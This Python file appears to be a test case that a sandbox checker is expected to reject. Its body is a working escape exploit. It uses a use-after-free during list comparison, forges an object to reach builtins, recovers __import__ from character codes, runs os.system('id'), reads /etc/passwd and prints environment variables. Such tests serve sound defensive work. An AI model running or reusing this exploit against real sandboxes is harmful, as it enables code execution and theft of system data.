# expect: reject memory
# line: 20
# why: SimpleNamespace(partition=wipe): the keyword binds the def under the name library code calls
vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]

def wipe(*a):
    vl.clear()
    return ("h", "", "")

import urllib.parse


import types

MM = types.SimpleNamespace(partition=wipe)


class N:
    def rpartition(self, sep):
        return ("", "", MM)


PR = urllib.parse.ParseResult("", N(), "", "", "", "")


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        n = PR.hostname
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        return o


vl.append(V())
w = W()
got = vl < [w]
KEEP.append(bytearray(FAKE))
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(osm.environ)
